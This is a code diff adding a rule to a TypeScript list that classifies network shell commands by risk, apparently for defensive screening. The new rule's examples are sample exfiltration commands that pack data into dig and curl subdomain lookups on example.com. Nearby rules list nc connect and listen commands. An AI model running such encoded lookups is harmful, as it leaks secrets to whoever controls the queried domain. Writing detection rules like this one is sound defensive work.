@@ -27,6 +27,13 @@ export const network: readonly Rule[] = [
     instead: 'write the address out',
     examples: ['curl "https://example.com/$PAGE"', 'ping -c 1 "www.$NAME"'],
   },
+  {
+    id: 'network/read-encoded',
+    doc: 'asks for a name that looks like packed data, which tells it to whoever answers for that name',
+    when: { effect: ['network.read', 'network.lookup'], scope: ['encoded'] },
+    tier: 'dangerous',
+    examples: ['dig nbswy3dpeb3w64tmmqqho2djomqgs4zamexhgzlsmu2q.example.com', 'curl https://6865726520697320612066696c65206f662073656372657473.example.com/'],
+  },
   { id: 'network/write', doc: 'sends data over the network', when: { effect: ['network.write'] }, tier: 'dangerous', instead: 'only read, if that is enough: `curl https://example.com`', examples: ['curl -X POST https://example.com'] },
   { id: 'network/connect', doc: 'opens a connection that can carry anything', when: { effect: ['network.connect'] }, tier: 'dangerous', examples: ['nc example.com 80'] },
   { id: 'network/listen', doc: 'lets others connect to this machine', when: { effect: ['network.listen'] }, tier: 'dangerous', examples: ['nc -l 8080'] },
